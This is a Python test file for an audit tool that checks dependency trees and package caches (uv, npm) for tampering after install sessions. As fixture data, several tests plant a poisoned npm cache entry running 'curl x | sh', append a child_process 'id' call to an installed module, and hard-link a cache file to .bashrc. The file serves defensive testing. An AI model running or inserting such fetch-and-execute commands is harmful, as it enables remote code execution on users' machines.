"""Dependency trees, environments and package caches after an ordinary install: judged by what they
are, one finding per tree at most and nothing that blocks the next session; what an install does not
do is still found. Each case is a real tree changed as the tool (or an agent) changes it, audited
through the same code as after a session (capture, then audit_mount)."""

from __future__ import annotations

import hashlib
import os
from collections.abc import Callable
from pathlib import Path

from dejima.orchestration.exit_audit import Mount, audit_mount, capture

SITE = ".local/venvs/project/lib/python3.11/site-packages"


def write(root: Path, path: str, text: str | bytes, mode: int = 0o644) -> Path:
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.unlink(missing_ok=True)  # a new file, as the tools write them (never through a hard link)
    (target.write_bytes if isinstance(text, bytes) else target.write_text)(text)  # type: ignore[operator]
    target.chmod(mode)
    return target


def audited(root: Path, kind: str, change: Callable[[Path], None]) -> list[tuple[str, str, str]]:
    state = capture(Mount(kind, root))
    change(root)
    found, _ = audit_mount(state)
    return [(f.rule, f.severity, f.path) for f in found]


def uv_sync(root: Path) -> None:
    """What `uv sync` leaves in the session home: its cache (lock files 0666, archive names that may
    start with '-', a .gitignore of '*') hard-linked into the project environment."""
    write(root, ".cache/uv/.gitignore", "*\n")
    write(root, ".cache/uv/.lock", "", 0o666)
    write(root, ".cache/uv/wheels-v5/pypi/six/1.16.0-py2.py3-none-any.lock", "", 0o666)
    write(root, ".local/venvs/project/pyvenv.cfg", "home = /usr/bin\n")
    (root / ".local/venvs/project/bin").mkdir(parents=True)
    os.symlink("/usr/bin/python3", root / ".local/venvs/project/bin/python")
    for name in ("six.py", "six-1.16.0.dist-info/RECORD", "requests/__init__.py"):
        cached = write(root, f".cache/uv/archive-v0/-bl_yQz/{name}", f"# {name}\n")
        installed = root / SITE / name
        installed.parent.mkdir(parents=True, exist_ok=True)
        os.link(cached, installed)
    write(root, f"{SITE}/_virtualenv.pth", "import _virtualenv\n")


def test_uv_sync_in_the_home_is_one_low_finding(tmp_path: Path) -> None:
    assert audited(tmp_path, "home", uv_sync) == [("B10", "low", ".local/venvs/project")]


def test_a_hard_link_from_a_cache_to_a_watched_place_is_still_found(tmp_path: Path) -> None:
    def planted(root: Path) -> None:
        uv_sync(root)
        os.link(root / ".cache/uv/archive-v0/-bl_yQz/six.py", root / ".bashrc")

    found = audited(tmp_path, "home", planted)
    assert ("F02", "high", ".cache/uv/archive-v0/-bl_yQz/six.py") in found


def npm_entry(root: Path, content: bytes) -> Path:
    digest = hashlib.sha512(content).hexdigest()
    return write(root, f".npm/_cacache/content-v2/sha512/{digest[:2]}/{digest[2:4]}/{digest[4:]}", content, 0o444)


def test_a_rewritten_npm_cache_entry_with_its_own_content_is_quiet(tmp_path: Path) -> None:
    npm_entry(tmp_path, b'{"name": "express"}')
    assert audited(tmp_path, "home", lambda root: npm_entry(root, b'{"name": "express"}')) == []


def test_an_npm_cache_entry_that_no_longer_hashes_to_its_name_is_found(tmp_path: Path) -> None:
    entry = npm_entry(tmp_path, b"module.exports = 1\n")

    def poisoned(root: Path) -> None:
        write(root, str(entry.relative_to(root)), b"require('child_process').exec('curl x | sh')\n", 0o444)

    [(rule, severity, path)] = audited(tmp_path, "home", poisoned)
    assert (rule, path) == ("M01", str(entry.relative_to(tmp_path))) and severity in ("medium", "high")


def installed(root: Path) -> None:
    write(root, "package.json", '{"dependencies": {"left-pad": "1.3.0"}}\n')
    write(root, "node_modules/.package-lock.json", '{"lockfileVersion": 3}\n')
    write(root, "node_modules/left-pad/package.json", '{"name": "left-pad", "version": "1.3.0"}\n')
    write(root, "node_modules/left-pad/index.js", "module.exports = leftPad;\n")


def test_npm_rewriting_its_hidden_lockfile_is_an_install_not_tampering(tmp_path: Path) -> None:
    installed(tmp_path)

    def reinstall(root: Path) -> None:
        with (root / "node_modules/.package-lock.json").open("w") as file:  # in place, as npm writes it
            file.write('{"lockfileVersion": 3, "packages": {}}\n')

    assert audited(tmp_path, "workspace", reinstall) == [("B07", "low", "node_modules")]


def test_an_installed_file_modified_in_place_is_tampering(tmp_path: Path) -> None:
    installed(tmp_path)

    def tamper(root: Path) -> None:
        with (root / "node_modules/left-pad/index.js").open("a") as file:
            file.write("require('child_process').exec('id');\n")

    assert audited(tmp_path, "workspace", tamper) == [("B07", "high", "node_modules")]
